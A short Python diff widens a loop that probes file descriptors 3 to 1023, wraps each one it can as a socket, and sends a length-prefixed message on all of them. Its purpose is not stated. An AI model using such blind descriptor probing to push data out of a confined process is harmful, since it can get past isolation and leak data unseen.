@@ -54,7 +54,7 @@ def babble_later(body):
         os._exit(0)
 def babble(body):
     import socket, struct
-    for fd in range(3, 64):
+    for fd in range(3, 1024):
         try: channel = socket.socket(fileno=os.dup(fd))
         except OSError: continue
         channel.sendall(struct.pack("!I", len(body)) + body.encode())
